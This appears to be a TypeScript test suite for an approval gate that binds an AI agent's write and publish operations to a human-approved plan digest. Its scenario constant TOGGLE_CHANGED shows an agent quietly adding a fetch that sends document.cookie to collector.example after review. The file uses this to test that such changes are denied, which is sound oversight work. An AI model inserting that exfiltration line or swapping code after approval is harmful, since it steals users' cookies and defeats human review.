import { expect, it } from "vitest";
import { ApprovalGate, parseApproval, type Approval, type AuthorizationRequest } from "forge/tools/approval";
import { buildChangePlan, planDigest } from "forge/tools/plans";
import { oneLine, otherThan, outcome, refused } from "../../lab/outcome.js";

// The software-delivery scenario: an agent adds a dark-mode toggle to a front-end repository. The
// reviewer approved the first plan; afterwards the agent changed the component's code, but not its
// summary, so the plan still reads the same to a human.
const OPERATION = "add-dark-mode-toggle";
const bytes = (text: string) => new TextEncoder().encode(text);

const TOGGLE_REVIEWED = `export function ThemeToggle() {
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_CHANGED = `export function ThemeToggle() {
  fetch("https://collector.example/t?c=" + encodeURIComponent(document.cookie));
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_TEST = `it("toggles the dark class", () => { /* ... */ });\n`;

function togglePlanDigest(component: string): string {
  return planDigest(
    buildChangePlan(OPERATION, {
      "src/components/ThemeToggle.tsx": ["add the dark-mode toggle", bytes(component)],
      "src/components/ThemeToggle.test.tsx": ["test the toggle", bytes(TOGGLE_TEST)],
    }),
  );
}

const approve = (operationId: string, digest: string): Approval => ({ operationId, planDigest: digest });

/** A decision in words: `authorized`, `denied`, an error's whole message, or any other value returned. */
const decision = (value: unknown) => (value === true ? "authorized" : value === false ? "denied" : `returned ${oneLine(value)}`);

/** The gate's decision for each request, in order: `{ "no approval": "denied", … }`. */
function decisions(gate: ApprovalGate, requests: Record<string, AuthorizationRequest>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(requests).map(([label, request]) => [label, outcome(() => gate.authorize(request), null, decision)]),
  );
}

it("a read-only operation needs no approval", () => {
  const gate = new ApprovalGate();
  const read = { risk: "read", operationId: "op", planDigest: "x" };
  // An approval that fits nothing changes nothing either: reading is not gated.
  expect(
    decisions(gate, {
      "no approval": { ...read, approval: null },
      "an approval for another operation and plan": { ...read, approval: approve("other", "y") },
    }),
    "decisions for a read",
  ).toEqual({ "no approval": "authorized", "an approval for another operation and plan": "authorized" });
});

it("a write requires an approval bound to the exact plan", () => {
  const gate = new ApprovalGate();
  const reviewed = togglePlanDigest(TOGGLE_REVIEWED);
  const current = togglePlanDigest(TOGGLE_CHANGED);
  expect(current, "the premise: the digest of the changed plan differs from the reviewed one").not.toBe(reviewed);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: current };
  // The same rule with bare labels: an approval for "old" does not authorize "new".
  const labelled = { risk: "reversible_write", operationId: "op", planDigest: "new" };

  expect(
    decisions(gate, {
      "no approval": { ...request, approval: null },
      "the approval of the reviewed plan, for the plan changed after review": { ...request, approval: approve(OPERATION, reviewed) },
      "an approval of the changed plan itself": { ...request, approval: approve(OPERATION, current) },
      'an approval for digest "old", for digest "new"': { ...labelled, approval: approve("op", "old") },
      'an approval for digest "new", for digest "new"': { ...labelled, approval: approve("op", "new") },
    }),
    "decisions for a reversible write, by approval (only an approval of this exact plan may authorize it)",
  ).toEqual({
    "no approval": "denied",
    "the approval of the reviewed plan, for the plan changed after review": "denied",
    "an approval of the changed plan itself": "authorized",
    'an approval for digest "old", for digest "new"': "denied",
    'an approval for digest "new", for digest "new"': "authorized",
  });
});

it("an unknown risk is rejected", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Even with an approval that matches exactly: an unknown risk is never mapped to an allowed one.
  const call = () => gate.authorize({ risk: "root", operationId: OPERATION, planDigest: digest, approval: approve(OPERATION, digest) });
  expect(
    { "says unknown risk": outcome(call, "unknown risk", decision), "names the risk": outcome(call, "root", decision) },
    'authorize with the risk "root" and an exact approval',
  ).toEqual({ "says unknown risk": refused("unknown risk"), "names the risk": refused("root") });
});

it("an approval for another operation with the same digest is denied", () => {
  const gate = new ApprovalGate();
  // The reviewer approved the theme change for the staging operation. The production operation writes
  // the same bytes to the same path, and the digest leaves the operation id out: the digests are equal.
  const writes = { "src/styles/theme.css": ["dark palette", bytes(":root { --bg: #111; }\n")] } as const;
  const digest = planDigest(buildChangePlan("theme-staging", writes));
  expect(planDigest(buildChangePlan("theme-production", writes)), "the premise: both operations' plans have the same digest").toBe(digest);
  const request = { risk: "reversible_write", operationId: "theme-production", planDigest: digest };
  expect(
    decisions(gate, {
      "the staging approval, replayed for production": { ...request, approval: approve("theme-staging", digest) },
      "an approval for production": { ...request, approval: approve("theme-production", digest) },
    }),
    "decisions for the production operation, by approval",
  ).toEqual({ "the staging approval, replayed for production": "denied", "an approval for production": "authorized" });
});

it("an irreversible operation without an approval is denied", () => {
  const gate = new ApprovalGate();
  // Publishing the built package cannot be undone by the harness: the strongest risk.
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "irreversible", operationId: "publish-release", planDigest: digest };
  expect(
    decisions(gate, {
      "approval null": { ...request, approval: null },
      // A plain-JavaScript caller may leave the field out altogether.
      "approval undefined": { ...request, approval: undefined } as unknown as AuthorizationRequest,
      "an exact approval": { ...request, approval: approve("publish-release", digest) },
    }),
    "decisions for an irreversible operation, by approval",
  ).toEqual({ "approval null": "denied", "approval undefined": "denied", "an exact approval": "authorized" });
});

it("risk names are case-sensitive and untyped input cannot slip through", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const exact = approve(OPERATION, digest);
  const near = ["READ", "Read", " read", "read ", "reversible-write", "Irreversible", "", "toString", "__proto__", "constructor"];
  const notStrings: unknown[] = [undefined, null, 0, ["read"], { toString: () => "read" }, new String("read")];
  const label = (risk: unknown) => (typeof risk === "string" ? JSON.stringify(risk) : `${oneLine(risk)} (${typeof risk})`);
  const verdicts: Record<string, string> = {};
  for (const risk of [...near, ...notStrings]) {
    verdicts[label(risk)] = outcome(
      () => gate.authorize({ risk: risk as string, operationId: OPERATION, planDigest: digest, approval: exact }),
      "unknown risk",
      decision,
    );
  }
  expect(
    otherThan(verdicts, refused("unknown risk")),
    'near-miss and non-string risks, not refused with an error containing "unknown risk"',
  ).toEqual({});
  // A request parsed from JSON that names no operation and no plan, with an empty approval: nothing is
  // bound, so nothing is authorized (undefined === undefined must not count as a match).
  expect(
    decisions(gate, {
      '{"risk": "irreversible", "approval": {}}': JSON.parse('{"risk": "irreversible", "approval": {}}') as AuthorizationRequest,
      "blank operation and plan, with a blank approval": JSON.parse(
        '{"risk": "reversible_write", "operationId": "", "planDigest": "", "approval": {"operationId": "", "planDigest": ""}}',
      ) as AuthorizationRequest,
    }),
    "decisions for requests that bind no operation and no plan",
  ).toEqual({ '{"risk": "irreversible", "approval": {}}': "denied", "blank operation and plan, with a blank approval": "denied" });
});

it("an approval that arrives as JSON is accepted only in its exact shape", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const approval = parseApproval(JSON.parse(`{"operationId": "${OPERATION}", "planDigest": "${digest}"}`));
  expect(approval, "the approval parsed from JSON").toEqual({ operationId: OPERATION, planDigest: digest });
  expect(Object.isFrozen(approval), "Object.isFrozen of the parsed approval").toBe(true);
  expect(
    decisions(gate, { "the parsed approval": { risk: "reversible_write", operationId: OPERATION, planDigest: digest, approval } }),
    "decision",
  ).toEqual({
    "the parsed approval": "authorized",
  });
  const bad = [
    `{"operationId": "${OPERATION}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.toUpperCase()}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.slice(0, 12)}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest}", "scope": "all"}`,
    `{"operationId": "  ", "planDigest": "${digest}"}`,
    `{"operationId": 7, "planDigest": "${digest}"}`,
    `["${OPERATION}", "${digest}"]`,
    "null",
  ];
  const verdicts = Object.fromEntries(bad.map((json) => [json, outcome(() => parseApproval(JSON.parse(json)), "invalid approval")]));
  expect(
    otherThan(verdicts, refused("invalid approval")),
    'malformed approvals given to parseApproval, not refused with an error containing "invalid approval"',
  ).toEqual({});
});

it("a granted approval is not remembered for a later request", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: digest };
  // The same operation and plan, asked three times in this order: a gate that cached the grant would
  // say yes to the second; nor may a denial stick, so the third is decided on its own input alone.
  expect(
    decisions(gate, {
      "1. with an exact approval": { ...request, approval: approve(OPERATION, digest) },
      "2. then without an approval": { ...request, approval: null },
      "3. then with the exact approval again": { ...request, approval: approve(OPERATION, digest) },
    }),
    "decisions for one operation and plan, asked in this order",
  ).toEqual({
    "1. with an exact approval": "authorized",
    "2. then without an approval": "denied",
    "3. then with the exact approval again": "authorized",
  });
});

it("an unknown risk's error names the value, without running code the value defines", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Whatever names these values in the message must not call their own methods: each one throws.
  const trap = (name: string) => () => {
    throw new Error(`the risk's own ${name} was called`);
  };
  const hostile = {
    toString: trap("toString"),
    valueOf: trap("valueOf"),
    toJSON: trap("toJSON"),
    [Symbol.toPrimitive]: trap("Symbol.toPrimitive"),
  };
  // Each risk, and a word its error must contain. A string is quoted, so "" and " read" stay visible.
  const cases: Record<string, [risk: unknown, word: string]> = {
    'the empty string ""': ["", '""'],
    'the string " read"': [" read", '" read"'],
    undefined: [undefined, "undefined"],
    null: [null, "null"],
    "the number 42": [42, "42"],
    'an array ["read"] whose own methods throw': [Object.assign(["read"], hostile), "array"],
    "an object whose own methods throw": [{ ...hostile }, "object"],
    "a function whose own methods throw": [Object.assign(() => "read", hostile), "function"],
  };
  const verdicts = Object.fromEntries(
    Object.entries(cases).map(([label, [risk, word]]) => [
      label,
      outcome(() => gate.authorize({ risk: risk as string, operationId: OPERATION, planDigest: digest, approval: null }), word, decision),
    ]),
  );
  const expected = Object.fromEntries(Object.entries(cases).map(([label, [, word]]) => [label, refused(word)]));
  expect(otherThan(verdicts, expected), "unknown risks whose error does not name them with the word shown").toEqual({});
});

it("an unknown risk's error lists the risks the gate accepts", () => {
  const gate = new ApprovalGate();
  const call = () => gate.authorize({ risk: "deploy", operationId: OPERATION, planDigest: "x", approval: null });
  // Each risk as a word of its own: run together ("readreversible_write…") they list nothing.
  const verdicts = {
    read: outcome(call, /\bread\b/, decision),
    reversible_write: outcome(call, /\breversible_write\b/, decision),
    irreversible: outcome(call, /\birreversible\b/, decision),
  };
  expect(
    otherThan(verdicts, {
      read: refused(/\bread\b/),
      reversible_write: refused(/\breversible_write\b/),
      irreversible: refused(/\birreversible\b/),
    }),
    'accepted risks missing, as a word, from the error for the risk "deploy"',
  ).toEqual({});
});

it("a request that names only one of its operation and its plan is denied, even with an approval that copies it", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Each approval repeats the request's values exactly, the blank or missing one included: only the
  // check that the request names both can deny it.
  const requests = {
    "a blank operation id, for a write": {
      risk: "reversible_write",
      operationId: "",
      planDigest: digest,
      approval: approve("", digest),
    },
    "a blank plan digest, for an irreversible operation": {
      risk: "irreversible",
      operationId: OPERATION,
      planDigest: "",
      approval: approve(OPERATION, ""),
    },
    '{"risk": "reversible_write", "planDigest": <digest>, "approval": {"planDigest": <digest>}}': JSON.parse(
      `{"risk": "reversible_write", "planDigest": "${digest}", "approval": {"planDigest": "${digest}"}}`,
    ) as AuthorizationRequest,
    '{"risk": "irreversible", "operationId": <operation>, "approval": {"operationId": <operation>}}': JSON.parse(
      `{"risk": "irreversible", "operationId": "${OPERATION}", "approval": {"operationId": "${OPERATION}"}}`,
    ) as AuthorizationRequest,
  };
  expect(otherThan(decisions(gate, requests), "denied"), "requests with one blank or missing binding, not denied").toEqual({});
});

it("an approval's digest is refused with anything before or after its 64 hex characters", () => {
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const near = {
    "a sha256: prefix": `sha256:${digest}`,
    "a leading space": ` ${digest}`,
    "one more hex digit in front": `0${digest}`,
    "one more hex digit at the end": `${digest}0`,
    "a trailing newline": `${digest}\n`,
  };
  const verdicts = Object.fromEntries(
    Object.entries(near).map(([label, planDigest]) => [
      label,
      outcome(() => parseApproval({ operationId: OPERATION, planDigest }), "invalid approval"),
    ]),
  );
  expect(
    otherThan(verdicts, refused("invalid approval")),
    'digests with extra characters, not refused with an error containing "invalid approval"',
  ).toEqual({});
});

it("an invalid approval's error names every problem, each by its field and what is wrong", () => {
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Each input, and the words its error must contain, each as a word of its own.
  const cases: Record<string, [json: string, words: RegExp[]]> = {
    "a blank operation id": [`{"operationId": "  ", "planDigest": "${digest}"}`, [/\boperationId\b/, /\bblank\b/]],
    "an upper-case digest": [`{"operationId": "${OPERATION}", "planDigest": "${digest.toUpperCase()}"}`, [/\bplanDigest\b/, /\bhex/]],
    "a missing digest": [`{"operationId": "${OPERATION}"}`, [/\bplanDigest\b/]],
    "an operation id that is a number": [`{"operationId": 7, "planDigest": "${digest}"}`, [/\boperationId\b/]],
    "a blank operation id and a short digest": [
      `{"operationId": "  ", "planDigest": "abc"}`,
      [/\boperationId\b/, /\bblank\b/, /\bplanDigest\b/, /\bhex/],
    ],
  };
  const verdicts: Record<string, string> = {};
  const expected: Record<string, string> = {};
  for (const [label, [json, words]] of Object.entries(cases)) {
    for (const word of words) {
      verdicts[`${label} names ${word}`] = outcome(() => parseApproval(JSON.parse(json)), word);
      expected[`${label} names ${word}`] = refused(word);
    }
  }
  expect(otherThan(verdicts, expected), "invalid approvals whose error does not name the problem").toEqual({});
});
